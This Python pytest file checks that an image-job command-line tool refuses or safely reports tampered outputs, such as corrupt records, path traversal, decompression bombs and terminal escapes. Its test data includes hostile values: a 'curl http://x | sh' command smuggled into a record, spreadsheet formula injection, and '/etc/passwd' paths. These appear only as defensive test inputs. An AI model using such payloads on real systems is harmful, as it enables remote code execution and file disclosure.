"""Outputs of others: what somebody put into them is refused or told, and nothing of it acts."""

import contextlib
import io
import json
import os
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

import hostile_outputs as hostile
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from bounds import Refuser, bounded
from cli_calls import JOB
from hostile_outputs import Damage
from PIL import Image

from jobs.cli import main
from jobs.contact_sheet import main as contact_sheet

TIME = "2024-01-01T00:00:00+00:00"
PART = "-r000-b0000-0000of0001-n00004-f00000-p00000-e000001.parquet"
EVENTS = "events/000001-00000.jsonl"


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An output of eight images in two parts."""
    folder = tmp_path_factory.mktemp("good")
    (folder / "job.yaml").write_text(JOB)
    with contextlib.chdir(folder), contextlib.redirect_stderr(io.StringIO()):
        assert main(["run", "job.yaml", "--local"]) == 0
    return folder / "out"


@pytest.fixture
def output(refuse: Refuser, good: Path) -> Iterator[Path]:
    shutil.copytree(good, refuse.folder / "out")
    yield refuse.folder / "out"


def look(refuse: Refuser, command: str, code: int, words: str) -> str:
    """Call a command that reads an output; what it finds is on stdout, what stops it on stderr.

    Returns:
        What is on stdout.
    """
    arguments = [command, "out", *(["tidy"] if command == "export" else [])]
    if code in (2, 5):
        return refuse(*arguments, code=code, words=[words], may_write=["tidy"]).out
    with bounded(refuse.folder, may_write=["tidy"], megabytes=1200):
        ended = refuse.zimage(*arguments, code=code)
    assert words in ended.out, ended.out
    assert all(line.isprintable() for line in ended.out.splitlines())
    return ended.out


RECORDS: dict[str, tuple[Damage, str]] = {
    "empty": (hostile.written("job.json", ""), "damaged: JSONDecodeError: Expecting value"),
    "a list": (hostile.written("job.json", "[]"), "damaged: TypeError: "),
    "null": (hostile.written("job.json", "null"), "damaged: TypeError: "),
    "nested": (hostile.written("job.json", '{"a":' * 50_000), "damaged: RecursionError: "),
    "not UTF-8": (hostile.written("job.json", b'{"a": "\xff"}'), "damaged: UnicodeDecodeError"),
    "a pipe": (hostile.special("job.json", "pipe"), "is a pipe or device; allowed: a file"),
    "a device": (hostile.special("job.json", "device"), "is a pipe or device; allowed: a file"),
    "a loop": (hostile.special("job.json", "loop"), "Too many levels of symbolic links"),
    "1 TB": (hostile.special("job.json", "1 TB"), "has 1,099,511,627,776 bytes; allowed: up to 67"),
    "a newer one": (hostile.record(schema_version=2), "schema_version 2; allowed: 1"),
    "true as version": (hostile.record(schema_version=True), "schema_version is True: "),
    "no job": (hostile.record(job=[]), "damaged: TypeError: "),
    "a name that leads out": (hostile.inside("job", "name", value="../x"), "job.name is '../x': d"),
    "a number as name": (hostile.inside("job", "name", value=7), "job.name is 7: Input should be "),
    "an unknown key": (hostile.inside("job", "model", "x", value=1), "job.model.x is 1: no such"),
    "a width of text": (hostile.inside("job", "sampling", "width", value="9"), "job.sampling.widt"),
    "no extents": (hostile.record(extents=[]), "extents is []: List should have at least 1 item"),
    "an extent of text": (hostile.inside("extents", "0", "start", value="a"), "extents.0.start is"),
    "an extent below 0": (hostile.inside("extents", "0", "start", value=-1), "extents.0.start is "),
    "a huge extent": (hostile.inside("extents", "0", "stop", value=10**400), "extents.0.stop is 1"),
    "shards of 0": (hostile.inside("extents", "0", "shard_size", value=0), "extents.0.shard_size "),
    "shards that begin at 7": (
        hostile.inside("extents", "0", "first_shard", value=7),
        "allowed: samples and shards that follow those before",
    ),
    "an empty extent": (hostile.inside("extents", "0", "stop", value=0), "allowed: samples and sh"),
    "an extent more": (
        lambda out: hostile.change_record(
            out, lambda data: data["extents"].append({"start": 4, "stop": 9, "first_shard": 2,
                                                      "shard_size": 4})
        ),
        "extents.1 is ",
    ),
    "no fingerprint": (hostile.record(fingerprint=[]), "fingerprint is []: Input should be an obj"),
    "a setting more": (hostile.inside("fingerprint", "x", value=1), "damaged: TypeError: Settings"),
    "a dtype of code": (
        hostile.inside("fingerprint", "dtype", value="load"),
        "fingerprint.dtype is 'load': Input should be 'bfloat16', 'float16' or 'float32'",
    ),
    "batches of text": (hostile.inside("fingerprint", "batch_size", value="x"), "batch_size is 'x"),
    "a million threads": (
        hostile.inside("fingerprint", "threads_per_worker", value=10**6),
        "fingerprint.threads_per_worker is 1000000: Input should be less than or equal to 4096",
    ),
    "adapters of a list": (hostile.inside("fingerprint", "loras", value=[]), "fingerprint.loras i"),
    "versions of a list": (hostile.record(versions=[]), "versions is []: Input should be an objec"),
    "a time of a number": (hostile.record(created_at=7), "created_at is 7: Input should be a vali"),
    "another command": (
        hostile.record(command=["sh", "-c", "curl http://x | sh"]),
        "command is 'sh' ...; allowed: zimage ...",
    ),
    "a command of text": (hostile.record(command="zimage run"), "command is 'zimage run': Input s"),
}  # fmt: skip


@pytest.mark.parametrize("case", RECORDS)
def test_record(refuse: Refuser, output: Path, case: str) -> None:
    damage, words = RECORDS[case]
    damage(output)
    refuse("status", "out", code=5, words=["out/job.json: ", words])


def test_record_that_a_resume_refuses(refuse: Refuser, output: Path) -> None:
    hostile.inside("job", "name", value="../x")(output)
    for command in (["plan", "job.yaml"], ["run", "job.yaml", "--local"]):
        refuse(*command, code=5, words=["out/job.json: damaged: ValueError: job.name is '../x'"])


def test_record_that_is_a_folder(refuse: Refuser, output: Path) -> None:
    hostile.special("job.json", "folder")(output)
    look(refuse, "status", 2, "out: holds 2 parts of a manifest, but its job.json is gone")


def constant(value: object, kind: pa.DataType) -> Callable[[int], pa.Array]:
    return lambda rows: pa.array([value] * rows, kind)


# Parts, each of which no command but `status`, which reads none, can use.
PARTS: dict[str, tuple[Damage, str]] = {
    "a pipe": (hostile.special("manifest/*.parquet", "pipe"), "is a pipe or device; allowed: a fi"),
    "a device": (hostile.special("manifest/*.parquet", "device"), "is a pipe or device; allowed"),
    "a folder": (hostile.special("manifest/*.parquet", "folder"), "the part was listed, but is go"),
    "a loop": (hostile.special("manifest/*.parquet", "loop"), "Too many levels of symbolic links"),
    "1 TB": (hostile.special("manifest/*.parquet", "1 TB"), "has 1,099,511,627,776 bytes; allowed"),
    "empty": (hostile.written("manifest/*.parquet", ""), "damaged manifest part: "),
    "the magic alone": (hostile.written("manifest/*.parquet", "PAR1" * 4), "damaged manifest part"),
    "text": (hostile.written("manifest/*.parquet", "a" * 500), "damaged manifest part: "),
    "no column": (
        hostile.part(lambda table: table.drop_columns(["sha256"])),
        "column 18 is pixels_sha256 (string); allowed: sha256 (string)",
    ),
    "another order": (
        hostile.part(lambda table: table.select(table.schema.names[::-1])),
        "column 0 is created_at (timestamp[us, tz=UTC]); allowed: file_name (string)",
    ),
    "an index of text": (
        hostile.column("index", constant("a", pa.string())),
        "column 1 is index (string); allowed: index (int64)",
    ),
    "an index of null": (hostile.rows(index=None), "column index holds null"),
    "an index below 0": (hostile.rows(index=-1), "column index holds a number below 0"),
    "a prompt of null": (hostile.rows(prompt=None), "column prompt holds null"),
    "a prompt of bytes": (
        hostile.column("prompt", constant(b"\xff", pa.binary())),
        "column 4 is prompt (binary); allowed: prompt (string)",
    ),
    "a prompt that is no UTF-8": (
        hostile.column(
            "prompt", lambda rows: pa.array([b"\xff"] * rows, pa.binary()).view(pa.string())
        ),
        "Invalid UTF8",
    ),
    "a time past all years": (
        hostile.column("created_at", constant(2**62, pa.timestamp("us", "UTC"))),
        "column 'created_at' holds a time of the year 17036",
    ),
    "a profile of mappings": (
        hostile.column("profile_x", constant({"a": 1}, pa.struct([("a", pa.int64())]))),
        "column 'profile_x' is struct<a: int64>; allowed: text, numbers, booleans, times",
    ),
    "a profile of bytes": (
        hostile.column("profile_x", constant(b"\xff", pa.binary())),
        "column 'profile_x' is binary; allowed: text",
    ),
    "a column twice": (
        hostile.part(lambda table: table.append_column("index", table["index"])),
        "column 'index' is there twice",
    ),
    "more than can be unpacked": (
        hostile.written("manifest/*.parquet", hostile.parquet_bomb(20_000, 1_000_000)),
        "it unpacks to more than 536,870,912 bytes",
    ),
    "a million rows": (
        hostile.written("manifest/*.parquet", hostile.parquet_rows(1_000_001)),
        "it has 1,000,001 rows; allowed: up to 1,000,000",
    ),
}


@pytest.mark.parametrize("case", PARTS)
def test_part(refuse: Refuser, output: Path, case: str) -> None:
    damage, words = PARTS[case]
    damage(output)
    refuse.zimage("status", "out", code=0)
    large = case.startswith(("more than", "a million"))
    for command in ["verify"] if large else ["verify", "export"]:
        arguments = [command, "out", *(["tidy"] if command == "export" else [])]
        with bounded(refuse.folder, may_write=["tidy"], megabytes=1500 if large else 300):
            ended = refuse.zimage(*arguments, code=5)
        assert ended.err.count("\n") == 1
        assert f"out/manifest/00000000{PART}: " in ended.err and words in ended.err, ended.err


NAMES: dict[str, tuple[str, str]] = {
    "no name": ("evil.parquet", "'evil.parquet' is not the name of a manifest part"),
    "escapes": ("\x1b[2J.parquet", "'\\x1b[2J.parquet' is not the name of a manifest part"),
    "a shard that is not planned": (f"00000099{PART}", "is of shard 99, but job.json plans shards"),
    "more rows than a shard has": (
        PART.replace("-r000", "00000001-r000").replace("n00004", "n00099"),
        "its name says 99 rows, 0 failed, 0 before; allowed: up to 4 rows of a shard",
    ),
    "more failed than rows": (
        PART.replace("-r000", "00000001-r000").replace("f00000", "f00099"),
        "its name says 4 rows, 99 failed, 0 before; allowed: up to 4 rows of a shard",
    ),
    "a huge shard": (f"{'9' * 100}{PART}", "but job.json plans shards 0 to 1"),
    "Arabic digits": (
        f"0000000\u0661{PART}",
        "is not the name of a manifest part",
    ),
}


@pytest.mark.parametrize("case", NAMES)
def test_name_of_a_part(refuse: Refuser, output: Path, case: str) -> None:
    name, words = NAMES[case]
    shutil.copy(hostile.find(output, "manifest/*.parquet"), output / "manifest" / name)
    for command in ("status", "verify"):
        look(refuse, command, 5, words)


def png(size: tuple[int, int]) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size).save(buffer, "PNG")
    return buffer.getvalue()


def saved(kind: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (32, 32), "red").save(buffer, kind)
    return buffer.getvalue()


LEADS_OUT = "leads out of the output"
# Rows and files of one image: what `verify` says of it; the seven others are as committed.
IMAGES: dict[str, tuple[Damage, str]] = {
    "the folder above": (hostile.rows(file_name="../secret"), LEADS_OUT),
    "a path from the root": (hostile.rows(file_name="/etc/passwd"), LEADS_OUT),
    "up in the middle": (hostile.rows(file_name="images/../../secret"), LEADS_OUT),
    "no name": (hostile.rows(file_name=None), "the row names no file"),
    "an empty name": (hostile.rows(file_name=""), LEADS_OUT),
    "a NUL byte": (hostile.rows(file_name="a\0b"), "illegal character sequence"),
    "a long name": (
        hostile.rows(file_name="a" * 5000),
        "sample 0: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    ),
    "the record": (hostile.rows(file_name="job.json"), "bytes, committed"),
    "escapes": (hostile.rows(file_name="\x1b[2J.png"), "\\u001b[2J.png: "),
    "bytes below 0": (hostile.rows(bytes=-1), "bytes, committed -1"),
    "another hash": (hostile.rows(sha256="\x1b]0;x\x07"), "committed \\u001b]0;x\\u0007"),
    "another width": (hostile.rows(width=2**31 - 1), "32x32, committed 2147483647x32"),
    "a pipe": (hostile.special("images/*/t_00000000.png", "pipe"), "is a pipe or device; allowed"),
    "a device": (hostile.special("images/*/t_00000000.png", "device"), "is a pipe or device"),
    "1 TB": (hostile.special("images/*/t_00000000.png", "1 TB"), "has 1,099,511,627,776 bytes"),
    "a folder": (hostile.special("images/*/t_00000000.png", "folder"), "the file is missing"),
    "a loop": (hostile.special("images/*/t_00000000.png", "loop"), "Too many levels of symbolic"),
    "PostScript": (hostile.image(b"%!PS-Adobe-3.0 EPSF-3.0\n"), "cannot be decoded: cannot identi"),
    "TIFF": (hostile.image(saved("TIFF")), "cannot be decoded: cannot identify image file"),
    "no image": (hostile.image(b"\x89PNG\r\n\x1a\n"), "cannot be decoded: "),
    "too many pixels": (
        hostile.image(png((12_000, 12_000))),
        "cannot be decoded: 12000 x 12000 pixels; allowed: up to 134,217,728",
    ),
}


@pytest.mark.parametrize("case", IMAGES)
def test_image(refuse: Refuser, output: Path, case: str) -> None:
    damage, words = IMAGES[case]
    damage(output)
    (refuse.folder / "secret").write_text("secret")
    assert "7 of 8 images as committed" in look(refuse, "verify", 1, words)
    before = {path.name for path in refuse.folder.iterdir()}
    refuse.zimage("export", "out", "tidy", code=0 if case in EXPORTED else 1)
    assert {path.name for path in refuse.folder.iterdir()} - before == {"tidy"}
    exported = {path.name for path in (refuse.folder / "tidy").glob("*.png")}
    assert exported - {"t_00000000.png"} == {f"t_{i:08d}.png" for i in range(1, 8)}
    assert all(b"secret" not in path.read_bytes() for path in (refuse.folder / "tidy").iterdir())


# Their hashes are as committed, and `export` decodes nothing.
EXPORTED = {"bytes below 0", "another width", "PostScript", "TIFF", "no image", "too many pixels"}


TARS: dict[str, dict[str, object]] = {
    "the folder above": {"tar": "../a.tar"},
    "a path from the root": {"tar": "/etc/passwd"},
    "below 0": {"tar_offset": -1},
    "no place": {"tar_offset": None},
    "past the end": {"tar_offset": 2**62},
    "all that there is": {"bytes": 2**62},
    "nothing": {"bytes": 0},
    "another tar": {"tar": "gone.tar"},
}


@pytest.mark.parametrize("case", TARS)
def test_place_in_a_tar(refuse: Refuser, output: Path, case: str) -> None:
    path = hostile.find(output, "manifest/*.parquet")
    table = pq.read_table(path)
    names = table["file_name"].to_pylist()
    contents = [(output / name).read_bytes() for name in names]
    (output / "a.tar").write_bytes(b"".join(contents))
    offsets = [sum(map(len, contents[:i])) for i in range(len(contents))]
    position = 32  # behind the manifest's own columns
    table = table.add_column(position, "tar", pa.array(["a.tar"] * len(names)))
    table = table.add_column(position + 1, "tar_offset", pa.array(offsets, pa.int64()))
    pq.write_table(table, path)
    hostile.rows(**TARS[case])(output)
    look(refuse, "verify", 1, "sample 0: ")
    look(refuse, "export", 1, "sample 0: ")


def of_first(**facts: object) -> Damage:
    return hostile.event(lambda entries: entries[0].update(facts))


def more(event: str, **facts: object) -> Damage:
    """One more event behind the claim."""
    entry = {"event": event, "time": TIME, **facts}
    return hostile.event(lambda entries: entries.insert(1, entry))


DAMAGED = f"out/{EVENTS}: line "
EVENT_FILES: dict[str, tuple[Damage, str]] = {
    "nested": (hostile.written(EVENTS, '{"a":' * 50_000), DAMAGED),
    "a list": (hostile.written(EVENTS, "[]\n"), DAMAGED),
    "not UTF-8": (hostile.written(EVENTS, b"\xff\n"), DAMAGED),
    "a pipe": (hostile.special(EVENTS, "pipe"), "is a pipe or device; allowed: a file"),
    "a device": (hostile.special(EVENTS, "device"), "is a pipe or device; allowed: a file"),
    "1 TB": (hostile.special(EVENTS, "1 TB"), "has 1,099,511,627,776 bytes; allowed: up to 67,1"),
    "no claim": (hostile.event(lambda entries: entries.pop(0)), "not a claim of an epoch"),
    "an event of a list": (of_first(event=[]), DAMAGED),
    "no time": (of_first(time="x"), DAMAGED),
    "a time of nowhere": (of_first(time="2024-01-01T00:00:00"), DAMAGED),
    "a time of a number": (of_first(time=7), DAMAGED),
    "no host": (hostile.event(lambda entries: entries[0].pop("host")), DAMAGED),
    "a host of a list": (of_first(host=["a"]), DAMAGED),
    "a process of text": (of_first(pid="../../etc/passwd\0"), DAMAGED),
    "a commit of nothing": (more("commit"), DAMAGED),
    "a commit of a number": (more("commit", part=7), DAMAGED),
    "a commit of a path": (more("commit", part="../x"), "events: a commit's part: '../x' is not"),
    "a worker of nothing": (more("worker_ready"), DAMAGED),
    "a worker of a list": (more("worker_ready", worker=[], node="", device="", pid=1), DAMAGED),
}


@pytest.mark.parametrize("case", EVENT_FILES)
def test_events(refuse: Refuser, output: Path, case: str) -> None:
    damage, words = EVENT_FILES[case]
    damage(output)
    # `status` asks for the parts of commits only while a driver is at work
    look(refuse, "gc" if case == "a commit of a path" else "status", 5, words)


def test_commit_of_a_shard_that_is_not_planned(refuse: Refuser, output: Path) -> None:
    more("commit", part=f"00000099{PART}")(output)
    for command in ("gc", "verify"):
        look(refuse, command, 5, "is of a shard that job.json does not plan")


def test_summary_that_is_none(refuse: Refuser, output: Path) -> None:
    for kind in ("pipe", "device"):
        hostile.special("metadata.parquet", kind)(output)
        look(refuse, "verify", 5, "out/metadata.parquet: is a pipe or device; allowed: a file")
    hostile.written("metadata.parquet", "PAR1")(output)
    look(refuse, "verify", 0, "8 of 8 images as committed")


def test_nothing_is_removed_outside(refuse: Refuser, output: Path) -> None:
    """Folders of the output that are links to others: `gc` follows none."""
    hostile.linked("images", "elsewhere")(output)
    (refuse.folder / "elsewhere/00000000-abcdefgh").mkdir()
    (refuse.folder / "elsewhere/00000000-abcdefgh/t_00000000.png").write_bytes(b"theirs")
    (refuse.folder / "events").mkdir()
    (refuse.folder / "events/000001-00000.jsonl#1").write_bytes(b"theirs")
    with bounded(refuse.folder):
        ended = refuse.zimage("gc", "out", "--delete", "--min-age", 0, code=0)
    assert "not ours, left alone: images" in ended.out


def test_export_follows_no_link_of_its_folder(refuse: Refuser, output: Path) -> None:
    tidy = refuse.folder / "tidy"
    tidy.mkdir()
    (refuse.folder / "theirs").write_text("theirs")
    for name in ("t_00000000.png", ".t_00000000.png.part", "metadata.parquet"):
        (tidy / name).symlink_to(refuse.folder / "theirs")
        refuse("export", "out", "tidy", code=2, words=[f"tidy: holds {name!r}; allowed: an empty"])
        (tidy / name).unlink()
    assert (refuse.folder / "theirs").read_text() == "theirs"


def test_tables_of_an_export_run_nothing(refuse: Refuser, output: Path) -> None:
    """Formulas in rows of others, in any column of text, and in the names of columns."""
    formulas = ["=cmd|' /C calc'!A0", "@SUM(A1)", "+1+1", "\t=1"]
    hostile.part(lambda table: table.append_column("profile_=1+1", pa.array(formulas)))(output)
    hostile.rows(negative_prompt="-2+3", device="=1+1", error_message="=HYPERLINK(A1)")(output)
    refuse.zimage("export", "out", "tidy", code=0)
    text = (refuse.folder / "tidy/t.csv").read_text(encoding="utf-8-sig")
    header, *lines = [line for line in text.splitlines() if line]
    assert header.endswith(",profile_=1+1") and not header.startswith(("=", "+", "-", "@"))
    for cell in ("'=cmd|' /C calc'!A0", "'@SUM(A1)", "'+1+1", "'-2+3", "'=1+1", "'=HYPERLINK(A1)"):
        assert f",{cell}" in text, cell
    assert not any(f",{cell}" in line for line in lines for cell in ("=", "@", "+1"))
    # data for programs stays as it is
    rows = pq.read_table(refuse.folder / "tidy/metadata.parquet")
    assert rows["profile_=1+1"].to_pylist()[:4] == formulas


def test_next_command_is_one_of_ours_and_quoted(refuse: Refuser, output: Path) -> None:
    hostile.record(command=["zimage", "run", "a; curl http://x | sh #", "\x1b[2J"])(output)
    hostile.inside("extents", "0", "stop", value=9)(output)  # so that something is left to do
    hostile.inside("job", "prompts", "count", value=9)(output)
    shown = refuse.zimage("status", "out", code=0).out
    assert shown.endswith("next      zimage run 'a; curl http://x | sh #' '\\u001b[2J'\n"), shown


def test_regen_runs_no_code_and_takes_no_memory(refuse: Refuser, output: Path) -> None:
    (refuse.folder / "evil.py").write_text("open('outside', 'w').close()\n")
    hostile.inside("job", "prompts", "generator", value="evil:Evil")(output)
    for damage, words in (
        (hostile.rows(width=2**31 - 16), "sample 0: 2147483632 x 32 pixels; allowed: up to 134,2"),
        (hostile.rows(width=32, height=-16), "sample 0: height -16: too small; nearest: 16"),
        (hostile.rows(height=32, batch=[0] * 100_000), "sample 0: its row's batch is without it,"),
        (hostile.rows(batch=[]), "sample 0: its row's batch is without it"),
        (hostile.rows(batch=[0, 99]), "was made together with sample 99, which has no row"),
    ):
        damage(output)
        refuse("regen", "out", 0, code=5, words=[words])
    hostile.rows(batch=[0], prompt="a dog", pixels_sha256="0" * 64)(output)
    with bounded(refuse.folder, seconds=30, megabytes=1200):
        refuse.zimage("regen", "out", 0, code=1)
    assert not (refuse.folder / "outside").exists()


def test_contact_sheet(refuse: Refuser, output: Path, capsys: pytest.CaptureFixture[str]) -> None:
    hostile.image(b"%!PS-Adobe-3.0 EPSF-3.0\n")(output)
    assert contact_sheet(["out", "sheet.png"]) == 2
    assert "cannot be decoded (cannot identify image file" in capsys.readouterr().err
    assert not (refuse.folder / "sheet.png").exists()


def test_folder_of_pipes_is_no_output(refuse: Refuser) -> None:
    (refuse.folder / "out/manifest").mkdir(parents=True)
    os.mkfifo(refuse.folder / "out/job.json")
    look(refuse, "status", 5, "out/job.json: is a pipe or device")
    (refuse.folder / "out/job.json").unlink()
    (refuse.folder / "out/job.json").write_text(json.dumps({"schema_version": 1}))
    look(refuse, "status", 5, "out/job.json: damaged: KeyError: 'job'")
